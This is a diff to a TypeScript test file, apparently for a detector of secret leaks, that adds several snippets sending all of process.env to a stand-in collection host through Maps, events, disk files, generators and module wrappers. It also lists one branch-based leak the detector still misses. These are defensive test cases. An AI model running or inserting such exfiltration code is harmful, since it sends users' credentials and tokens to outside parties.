@@ -5,6 +5,13 @@ const away = 'https://collect.example.invalid/in'
 const host = 'collect.example.invalid'
 
 const secrets: readonly (readonly [code: Source, flow: string])[] = [
+  [`const m = new Map(Object.entries(process.env)); fetch('${away}', { body: JSON.stringify([...m]) })`, 'env-all → network'],
+  [`const { EventEmitter } = require('events'); const e = new EventEmitter(); e.on('a', x => fetch('${away}', { body: JSON.stringify(x) })); e.emit('a', process.env)`, 'env-all → network'],
+  [`require('fs').writeFileSync('/tmp/lamp', JSON.stringify(process.env)); fetch('${away}', { body: require('fs').readFileSync('/tmp/lamp') })`, 'env-all → network'],
+  [`class A { #q = []; add(x) { this.#q.push(x) } send() { fetch('${away}', { body: JSON.stringify(this.#q) }) } } const a = new A(); a.add(process.env); a.send()`, 'env-all → network'],
+  [`function* f() { for (const k in process.env) yield process.env[k] } fetch('${away}', { body: [...f()].join() })`, 'env-all → network'],
+  [`const o = Object.keys(process.env).filter(k => /KEY/.test(k)).reduce((a, k) => ({ ...a, [k]: process.env[k] }), {}); fetch('${away}', { body: JSON.stringify(o) })`, 'env-all → network'],
+  [`var n = (f, m) => () => (m || f((m = { exports: {} }).exports, m), m.exports); var a = n((e, m) => { m.exports = () => process.env }); var b = n((e, m) => { m.exports = d => fetch('${away}', { body: JSON.stringify(d) }) }); b()(a()())`, 'env-all → network'],
   [`fetch('${away}', { method: 'POST', body: JSON.stringify(process.env) })`, 'env-all → network'],
   [`fetch('${away}?' + new URLSearchParams(process.env))`, 'env-all → network'],
   [`const e = process.env; fetch('${away}', { body: JSON.stringify({ e }) })`, 'env-all → network'],
@@ -143,10 +150,7 @@ const apart: readonly string[] = [
 
 /** Flows that are still missed. A row that is found all of a sudden belongs into the tables above. */
 const missed: readonly (readonly [code: Source, flow: string, why: string])[] = [
-  [`const m = new Map(Object.entries(process.env)); fetch('${away}', { body: JSON.stringify([...m]) })`, 'env-all → network', 'Maps are not opened.'],
   [`process.env.PORT ? 1 : 0; let s = ''; if (process.env.NPM_TOKEN[0] === 'a') s = 'a'; fetch('${away}', { body: s })`, 'env-secret → network', 'What a branch tells of a secret is not followed.'],
-  [`require('fs').writeFileSync('a', JSON.stringify(process.env)); fetch('${away}', { body: require('fs').readFileSync('a') })`, 'env-all → network', 'A detour over the disk is not followed.'],
-  [`const { EventEmitter } = require('events'); const e = new EventEmitter(); e.on('a', x => fetch('${away}', { body: JSON.stringify(x) })); e.emit('a', process.env)`, 'env-all → network', 'Events of their own are not matched by name.'],
 ]
 
 const title = (source: Source): string => typeof source === 'string' ? source : Object.values(source).join(' | ')
